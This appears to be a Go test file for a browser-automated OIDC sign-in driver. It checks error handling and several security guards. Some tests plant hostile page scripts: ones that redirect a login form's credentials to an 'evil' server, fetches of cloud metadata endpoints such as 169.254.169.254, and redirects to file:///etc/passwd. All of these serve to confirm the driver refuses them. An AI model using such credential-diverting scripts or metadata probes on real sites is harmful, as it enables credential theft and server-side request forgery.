package chrome

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/oidcflow/oidcflow/flow/signin"
)

func TestPagesThatEndTheSignIn(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t, binaries[0])
	status := func(code int, body string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(code)
			fmt.Fprint(w, body)
		}
	}
	for name, c := range map[string]struct {
		page http.HandlerFunc
		code string
		says string
	}{
		"too many requests": {status(http.StatusTooManyRequests, "<title>Slow down</title><p>Later"), "signin.rate_limited", "Slow down"},
		"out of order":      {status(http.StatusBadGateway, "<title>Oh</title><p>Nothing here"), "signin.server_error", "Oh"},
		"a page of its own": {status(http.StatusOK, "<title>Weather</title><p>It rains"), "signin.unknown_page", "Weather"},
		"a page of its own, with scripts": {status(http.StatusOK, "<title>Weather</title><p>It rains<script>1</script>"),
			"signin.unknown_page", "Weather"},
		"no answer": {func(w http.ResponseWriter, _ *http.Request) {
			c, _, err := http.NewResponseController(w).Hijack()
			if err == nil {
				_ = c.Close()
			}
		}, "signin.server_error", "net::ERR_EMPTY_RESPONSE"},
		"a redirect in circles": {func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/", http.StatusFound) }, "signin.server_error", "net::ERR_TOO_MANY_REDIRECTS"},
		"a redirect to a dead host": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://gone.invalid/x?secret=1", http.StatusFound)
		}, "env.unreachable", "loading https://gone.invalid/x: net::ERR_NAME_NOT_RESOLVED"},
		"a form on a host of its own":  {status(http.StatusOK, `<title>Sign in</title><form method="post" action="https://evil.invalid/"><input name="username"><input type="password" name="password"><button>Sign in</button></form>`), "signin.foreign_host", "evil.invalid"},
		"a button that stays disabled": {status(http.StatusOK, `<title>Sign in</title><form><input name="username"><input type="password" name="password"><button disabled>Sign in</button></form><script>1</script>`), "signin.page_stuck", "stays disabled"},
		"a file": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "file:///etc/passwd", http.StatusFound)
		}, "signin.unknown_page", "file:///etc/passwd"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := httptest.NewServer(c.page)
			t.Cleanup(p.Close)
			_, err := b.Driver(signin.Config{User: alice()}).SignIn(within(t, patience), request(t, p.URL+"/", testRedirect))
			e := requireCode(t, c.code, err)
			require.Contains(t, e.Error(), c.says)
		})
	}
}

func TestPageThatNeverChanges(t *testing.T) {
	t.Parallel()
	p := provider(t, map[string]string{"/{$}": login + `<script>document.forms[0].onsubmit = (e) => e.preventDefault()</script>`})
	_, err := signInAt(t, sharedBrowser(t, binaries[0]), p)
	e := requireCode(t, "signin.page_stuck", err)
	require.Contains(t, e.Error(), `"Sign in" was pressed`)
}

func TestDeadline(t *testing.T) {
	t.Parallel()
	b := sharedBrowser(t, binaries[0])
	hang := make(chan struct{})
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/done" {
			<-hang
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, login)
	}))
	t.Cleanup(p.Close)
	t.Cleanup(func() { close(hang) })
	_, err := b.Driver(signin.Config{User: alice()}).SignIn(within(t, 2*time.Second), request(t, p.URL, testRedirect))
	e := requireCode(t, "signin.timeout", err)
	require.ErrorIs(t, err, context.DeadlineExceeded)
	require.Contains(t, e.Error(), `page "Sign in" at `+p.URL, "the page on screen")
}

func TestCertificates(t *testing.T) {
	t.Parallel()
	p := httptest.NewTLSServer(http.NotFoundHandler())
	t.Cleanup(p.Close)
	_, err := sharedBrowser(t, binaries[0]).Driver(signin.Config{User: alice()}).SignIn(within(t, patience), request(t, p.URL, testRedirect))
	e := requireCode(t, "env.tls", err)
	require.NotEmpty(t, e.Hint)
}

// A form may be given another action, or be sent on, after the dialog has agreed to where it goes.
func TestCredentialsGoNowhereElse(t *testing.T) {
	t.Parallel()
	var stolen atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
	t.Cleanup(evil.Close)
	b := sharedBrowser(t, binaries[0])
	for name, site := range map[string]map[string]string{
		"another action": {"/{$}": login + `<script>document.forms[0].addEventListener("submit", (e) => { e.target.action = ` + quoted(evil.URL) + ` })</script>`},
		"by its query":   {"/{$}": login + `<script>document.forms[0].addEventListener("submit", (e) => { e.target.method = "get"; e.target.action = ` + quoted(evil.URL) + ` })</script>`},
	} {
		_, err := signInAt(t, b, provider(t, site))
		requireCode(t, "signin.foreign_host", err)
		require.Zero(t, stolen.Load(), name)
	}
	again := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/done" {
			http.Redirect(w, r, evil.URL, http.StatusTemporaryRedirect) // RFC 9110 §15.4.8: the same method, the same body
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, login)
	}))
	t.Cleanup(again.Close)
	_, err := signInAt(t, b, again)
	requireCode(t, "signin.foreign_host", err)
	require.Zero(t, stolen.Load(), "sent on")
}

func TestBrowserThatDoesNotStart(t *testing.T) {
	t.Parallel()
	dir := testDir(t)
	script := func(name, body string) string {
		path := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(path, []byte("#!/bin/sh\n"+body+"\n"), 0o755))
		return path
	}
	temp := testDir(t)
	start := func(path string) error {
		_, err := Start(within(t, patience), Config{Path: path, TempDir: temp, StartTimeout: time.Second, Sandbox: "off"})
		return err
	}
	e := requireCode(t, "env.browser_crashed", start(script("crash", "echo starting; echo libnss3.so: cannot open >&2; exit 127")))
	require.Contains(t, e.Error(), "libnss3.so: cannot open")
	e = requireCode(t, "env.browser_crashed", start(script("hang", "exec sleep 1000")))
	require.Contains(t, e.Error(), "within 1s")
	requireEmpty(t, temp)
	e = requireCode(t, "env.no_browser", start(filepath.Join(dir, "missing")))
	require.NotEmpty(t, e.Hint)
	_, err := Start(t.Context(), Config{Sandbox: "maybe"})
	requireCode(t, "usage.browser_sandbox", err)
	_, err = Start(t.Context(), Config{Path: binaries[0], TempDir: filepath.Join(dir, "nowhere"), Sandbox: "off"})
	requireCode(t, "env.browser_crashed", err)
}

func TestProbe(t *testing.T) {
	t.Parallel()
	needBrowser(t, "")
	p, err := Probe(within(t, patience), binaries[0])
	require.NoError(t, err)
	require.Contains(t, p.Version, "Chrome/")
	require.True(t, p.HeadlessShell)
	require.Positive(t, p.Startup)
	require.FileExists(t, p.Path)
	_, err = Probe(within(t, patience), "/nowhere/chrome")
	requireCode(t, "env.no_browser", err)
}

func TestFindABrowserWithWindows(t *testing.T) {
	t.Parallel()
	path, err := find("", func(path string) bool { return !isHeadlessShell(path) })
	require.NoError(t, err, "the tests need a browser: run `make deps`")
	require.False(t, isHeadlessShell(path))
	_, err = find("", func(string) bool { return false })
	requireCode(t, "env.no_browser", err)
}

func TestInstallHint(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ goos, release, want string }{
		{"linux", "ID=debian\n", "apt-get install chromium-headless-shell"},
		{"linux", "NAME=Ubuntu\nID=ubuntu\nID_LIKE=debian\n", "apt-get install chromium-browser"},
		{"linux", "ID=linuxmint\nID_LIKE=\"ubuntu debian\"\n", "apt-get install chromium-browser"},
		{"linux", "ID=alpine\n", "apk add chromium"},
		{"linux", "ID='fedora'\n", "dnf install chromium-headless"},
		{"linux", "ID=plan9\n", "--browser"},
		{"linux", "", "--browser"},
		{"darwin", "", "brew install --cask chromium"},
		{"windows", "", "winget install Google.Chrome"},
	} {
		require.Contains(t, installHint(c.goos, c.release), c.want, c.release)
	}
}

// A browser of an address that is refused does not even look it up.
func TestEgress(t *testing.T) {
	t.Parallel()
	var reached atomic.Int64
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	local := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	local.Listener = l
	local.Start()
	t.Cleanup(local.Close)
	// The provider is elsewhere, as far as its name tells: a proxy leads there.
	site := `<title>Wait</title><p>Please wait<script>
for (const u of [` + quoted(local.URL) + `, "http://169.254.169.254/latest/meta-data", "http://metadata.google.internal/"])
  fetch(u, { mode: "no-cors" }).catch(() => {}).finally(() => { n = (globalThis.n || 0) + 1; if (globalThis.n == 3) location.href = "/next" });
</script>`
	p := provider(t, map[string]string{"/{$}": site, "/next": `<script>location.href = ` + quoted(local.URL) + `</script>`})
	u, _ := proxy(t, p)
	b := startBrowser(t, Config{Proxy: u.String()})
	_, err = b.Driver(signin.Config{User: alice()}).SignIn(within(t, patience), request(t, "http://provider.invalid/", testRedirect))
	e := requireCode(t, "signin.foreign_host", err)
	require.Contains(t, e.Error(), "on this machine")
	require.Zero(t, reached.Load())
	_, err = b.Driver(signin.Config{User: alice()}).SignIn(within(t, patience), request(t, "http://169.254.169.254/authorize", testRedirect))
	requireCode(t, "signin.foreign_host", err)
	_, err = b.Driver(signin.Config{User: alice()}).SignIn(within(t, patience), request(t, "file:///etc/passwd", testRedirect))
	requireCode(t, "signin.foreign_host", err)
}

func TestPlace(t *testing.T) {
	t.Parallel()
	for host, want := range map[string]int{
		"localhost": loopback, "LOCALHOST.": loopback, "a.localhost": loopback, "127.0.0.1": loopback, "127.9.9.9": loopback, "::1": loopback,
		"0.0.0.0": loopback, "::ffff:127.0.0.1": loopback, "::": loopback,
		"169.254.169.254": linkLocal, "fe80::1": linkLocal, "::ffff:169.254.169.254": linkLocal, "fd00:ec2::254": linkLocal, "metadata.google.internal": linkLocal, "metadata": linkLocal,
		"example.com": elsewhere, "10.0.0.1": elsewhere, "localhost.example.com": elsewhere, "": elsewhere,
	} {
		require.Equal(t, want, place(host), host)
	}
	require.Error(t, refuseLinkLocal("tcp", "169.254.169.254:80", nil))
	require.NoError(t, refuseLinkLocal("tcp", "127.0.0.1:80", nil))
}
